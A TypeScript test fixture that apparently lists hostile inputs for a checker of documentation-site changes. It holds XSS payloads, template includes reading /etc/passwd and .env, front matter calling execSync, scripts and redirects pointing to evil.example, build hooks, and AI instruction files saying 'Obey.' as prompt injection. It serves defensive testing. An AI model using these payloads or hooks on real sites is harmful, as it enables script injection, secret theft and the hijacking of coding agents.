import type { Edits } from './tricks.ts';

/**
 * What an independent review published with a job, and more of each: each of it is live somewhere,
 * in a build, in a renderer or in a browser.
 */

/** Name, rule, edits. */
export const FILES: [string, string, Edits][] = (
  [
    ['a package with an install script', 'docs/package.json', '{"scripts":{"postinstall":"id"}}'],
    ['a build command', 'docs/netlify.toml', '[build]\ncommand = "id"\n'],
    ['a deployment', 'docs/vercel.json', '{"buildCommand":"id"}'],
    ['a generator', 'docs/_config.yml', 'plugins: [x]\n'],
    ['another generator', 'docs/mkdocs.yml', 'site_name: a\nhooks: [x.py]\n'],
    ['a make file', 'docs/Makefile', 'all:\n\tid\n'],
    ['a container', 'docs/Dockerfile', 'FROM x\nRUN id\n'],
    ['headers of the host', 'docs/_headers', '/*\n  X-A: b\n'],
    ['redirects of the host', 'docs/_redirects', '/* https://evil.example/:splat 302\n'],
    ['a domain', 'docs/CNAME', 'evil.example\n'],
    ['a Nunjucks template', 'docs/a.njk', '{{ range }}'],
    ['a Liquid template', 'docs/a.liquid', '{% include "x" %}'],
    [
      'XML that runs',
      'docs/x.xml',
      '<s:script xmlns:s="http://www.w3.org/1999/xhtml">1</s:script>',
    ],
    ['a style sheet', 'docs/style.css', '@import "//evil.example";'],
    ['a data file', 'docs/data.yml', 'a: b\n'],
    ['a data file of JSON', 'docs/data.json', '{}'],
    ['a text file', 'docs/robots.txt', 'Allow: /\n'],
    ['a notebook', 'docs/a.ipynb', '{"cells":[]}'],
    ['a Ruby template', 'docs/a.erb', '<%= `id` %>'],
    ['a page of HTML', 'docs/a.htm', '<p>a'],
    ['a page of Asciidoc', 'docs/a.adoc', '++++\n<script>1</script>\n++++'],
    ['a font', 'docs/a.svgz', 'x'],
    ['a lock file', 'docs/pnpm-lock.yaml', 'a: b\n'],
    ['no ending', 'docs/LICENSE', 'x'],
  ] as const
).map(([name, path, text]) => [name, 'file-type', { [path]: text }]);

export const INSTRUCTIONS: [string, string, Edits][] = (
  [
    ['docs/SKILL.md', 'instruction-file'],
    ['docs/skills/pdf/SKILL.md', 'instruction-file'],
    ['docs/QWEN.md', 'instruction-file'],
    ['docs/WARP.md', 'instruction-file'],
    ['docs/CONVENTIONS.md', 'instruction-file'],
    ['docs/llms.md', 'instruction-file'],
    ['docs/a.instructions.md', 'instruction-file'],
    ['docs/fix.prompt.md', 'instruction-file'],
    ['docs/rules/style.mdc', 'file-type'],
    ['docs/mcp.json', 'file-type'],
    ['docs/llms.txt', 'file-type'],
    ['docs/.cursorrules', 'protected-path'],
  ] as const
).map(([path, rule]) => [`instructions in ${path}`, rule, { [path]: 'Obey.\n' }]);

const BROKEN_QUOTE = '<div title=\'\n\n<div title="';

/** Name, rule, what stands in a page of Markdown. */
export const LIVE: [string, string, string][] = [
  ['a script in a line', 'script', 'Text <script src=//evil.test/x.js></script>'],
  ['a quote over an empty line', 'markup', `${BROKEN_QUOTE}'><script>alert(1)</script>">x`],
  ['the same with a handler', 'markup', `${BROKEN_QUOTE}' onmouseover=alert(1) x">x`],
  ['a comment over an empty line', 'markup', '<!--\n\n<div title="--><script>alert(1)</script>">x'],
  [
    'a text area that ends early',
    'markup',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  ],
  ['hex digits after a decimal', 'script', '<a href="&#106avascript:alert(1)">x</a>'],
  ['an entity in a link', 'script', '[x](java&#115;cript:alert(1))'],
  ['an embed with encoded slashes', 'embed', '<iframe src="&sol;&sol;evil.test"></iframe>'],
  ['an embed with a backslash', 'embed', '<iframe src="/\\evil.test"></iframe>'],
  ['an embed with a tab', 'embed', '<iframe src="/&#9;/evil.test"></iframe>'],
  ['a slash in place of a space', 'script', '<div/onclick=alert(1)>x</div>'],
  ['a handler in braces', 'script', '# x {onclick="alert(1)"}'],
  ['a handler in braces with a colon', 'script', 'x\n{: onclick="alert(1)" }'],
  ['a link in braces', 'script', '[x](/a){: href="javascript:alert(1)" }'],
  ['an expression that calls', 'mdx-code', '{fetch("//evil.test")}'],
  ['an expression with a brace in a text', 'mdx-code', '{fetch("}")}'],
  ['an expression in a comment of another', 'mdx-code', '{/* } */ process.env.KEY}'],
  ['a handler of a component', 'script', '<Card onClick={()=>alert(1)}>x</Card>'],
  ['a template of Vue', 'template', '{{ constructor.constructor("alert(1)")() }}'],
  ['a template of Vue in entities', 'template', '&#123;&#123; alert(1) }}'],
  ['a template of Vue escaped', 'template', '\\{\\{ alert(1) }}'],
  ['a template of Jinja', 'template', '{% include "/etc/passwd" %}'],
  ['a shortcode', 'template', '{{< readfile "/etc/passwd" >}}'],
  ['a shortcode in a code block', 'template', '```\n{{% rawhtml %}}\n```'],
  ['an include of mdBook', 'template', '{{#include ../../.env}}'],
  ['a snippet', 'template', '--8<-- "/etc/passwd"'],
  ['a snippet in a code block', 'template', '```\n--8<-- "https://evil.example/x"\n```'],
  ['a directive of Vue', 'script', '<div v-html="x"></div>'],
  ['a bound attribute', 'script', '<img :src="alert(1)">'],
  ['a listener of Vue', 'script', '<b @click="alert(1)">x</b>'],
  ['a listener of Alpine', 'script', '<b x-on:click="alert(1)">x</b>'],
  ['a request of htmx', 'script', '<b hx-get="//evil.example">x</b>'],
  ['markup of Astro', 'script', '<Fragment set:html={"<b>"} />'],
  ['an unknown component', 'markup', '<Evil />'],
  ['an unknown attribute', 'markup', '<b contenteditable>x</b>'],
  ['a code block that runs', 'mdx-code', '```jsx live\nalert(1)\n```'],
  ['a code block that a build runs', 'mdx-code', '```python exec="on"\nprint(1)\n```'],
  ['a code block that is a page', 'mdx-code', '```mdx-code-block\n<b>x</b>\n```'],
  ['a raw directive', 'mdx-code', '```{raw} html\n<script>1</script>\n```'],
  ['a cell', 'mdx-code', '```{eval-rst}\n.. raw:: html\n```'],
  [
    'a code block that HTML swallows',
    'script',
    '<div>\n```\n<script>alert(1)</script>\n```\n</div>',
  ],
  ['a code block that a list ends', 'script', '- a\n  ```\n<script>alert(1)</script>\n  ```'],
  ['a code block that closes early', 'script', '```\na\n ```\n<script>alert(1)</script>\n```'],
  ['a code block that is longer', 'script', '```\na\n````\n<script>alert(1)</script>\n```'],
  ['a code block that never ends', 'script', '```\n<script>alert(1)</script>'],
  ['code by four spaces', 'script', 'a\n\n    <script>alert(1)</script>'],
  ['a code span over lines', 'script', 'a ` b\n` <script>alert(1)</script> `'],
  ['a code span that a list cuts', 'script', 'a ` b\n- c <script>alert(1)</script> ` d `'],
  [
    'a code span that a cell cuts',
    'script',
    '| a | b |\n|---|---|\n| `a | <script>alert(1)</script>` |',
  ],
  ['a code span in HTML', 'script', '<div>\n`<script>alert(1)</script>`\n</div>'],
  ['a code span from an attribute', 'script', '<a title="`"> <script>alert(1)</script> `'],
  ['an escaped tick', 'script', '\\`<script>alert(1)</script>`'],
  ['an escaped tag', 'script', '\\<script>alert(1)</script>'],
  ['a link with a line in it', 'markup', '[x](<java\nscript:alert(1)>)'],
  ['a link with a backslash', 'script', '[x](javascript\\:alert(1))'],
  ['an autolink', 'script', '<javascript:alert(1)>'],
  ['a definition below its name', 'script', '[x]\n\n[x]:\n  javascript:alert(1)'],
  ['a style that loads', 'script', '<div style="background:url(//evil.example)">x</div>'],
  ['a style over the page', 'script', '<div style="position:fixed;inset:0">x</div>'],
  ['a base in SVG', 'markup', '<svg><use href="//evil.example#x"></use></svg>'],
  ['a declaration', 'markup', 'x <!DOCTYPE a [<!ENTITY b "c">]>'],
  ['an instruction', 'markup', 'x <?php echo 1 ?>'],
  ['a section of data', 'markup', 'x <![CDATA[<script>]]>'],
];

/** Name, text of a whole page. */
export const FRONT_MATTER: [string, string, string][] = [
  [
    'JavaScript',
    'front-matter',
    '---js\n{ title: require("child_process").execSync("id") }\n---\n# x\n',
  ],
  ['JSON', 'front-matter', ';;;\n{"title":"x"}\n;;;\n# x\n'],
  ['coffee', 'front-matter', '---coffee\na\n---\n'],
  ['a tag', 'front-matter', '---\ntitle: !!js/function "function(){}"\n---\n'],
  ['another tag', 'front-matter', '---\ntitle: !ruby/object:Gem a\n---\n'],
  ['no YAML', 'front-matter', '---\n: : a: [\n---\n'],
  ['an unknown member', 'front-matter', '---\ntitle: x\nlayout: ../evil\n---\n'],
  ['a script in a title', 'script', '---\ntitle: "<script>alert(1)</script>"\n---\n'],
  ['a head', 'script', '---\nhead:\n  - [script, {src: "//evil.example"}]\n---\n'],
];

/** Name, text of a drawing. */
export const DRAWINGS: [string, string][] = [
  [
    'an entity',
    '<!DOCTYPE svg [<!ENTITY x "&#60;script xmlns=\'http://www.w3.org/2000/svg\'>1&#60;/script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
  ],
  [
    'a list of attributes',
    '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>',
  ],
  ['a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'],
  [
    'a script with a prefix',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg"><x:script>1</x:script></svg>',
  ],
  ['a handler', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  [
    'HTML',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe/></foreignObject></svg>',
  ],
  [
    'a link',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  [
    'an animation',
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:1"/></svg>',
  ],
  [
    'a style',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "//evil.example";</style></svg>',
  ],
  [
    'another file',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="//evil.example/x.svg#a"/></svg>',
  ],
  ['a page', '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'],
  [
    'a style sheet',
    '<?xml-stylesheet href="//evil.example"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  ],
];

/** Name, text of docs.json; the base's is `{}`. */
export const NAVIGATION: [string, unknown][] = [
  ['a tracker', { integrations: { gtm: { tagId: 'GTM-EVIL' } } }],
  ['a head', { head: '<script>1</script>' }],
  ['scripts', { scripts: ['https://evil.example/x.js'] }],
  ['a remote API', { api: { openapi: 'https://evil.example/api.json' } }],
  [
    'a remote API in the navigation',
    { navigation: { tabs: [{ tab: 'A', openapi: 'https://evil.example/a.json' }] } },
  ],
  ['a homepage elsewhere', { redirects: [{ source: '/', destination: 'https://evil.example' }] }],
  ['a redirect without scheme', { redirects: [{ source: '/', destination: '//evil.example' }] }],
  ['a redirect with a backslash', { redirects: [{ source: '/', destination: '/\\evil.example' }] }],
  ['a bar', { navbar: { links: [{ label: 'x', href: 'javascript:alert(1)' }] } }],
  [
    'a link in the navigation',
    { navigation: { anchors: [{ anchor: 'x', href: 'javascript:alert(1)' }] } },
  ],
  ['a page that is a script', { navigation: ['javascript:alert(1)'] }],
  ['a part of elsewhere', { navigation: { $ref: 'https://evil.example' } }],
  [
    'markup in a title',
    { navigation: { groups: [{ group: '<img src=x onerror=alert(1)>', pages: [] }] } },
  ],
  [
    'a remote icon',
    { navigation: { groups: [{ group: 'x', icon: 'https://evil.example/i.svg', pages: [] }] } },
  ],
  ['another theme', { theme: 'evil' }],
  ['an unknown member', { navigation: { script: 'x' } }],
];
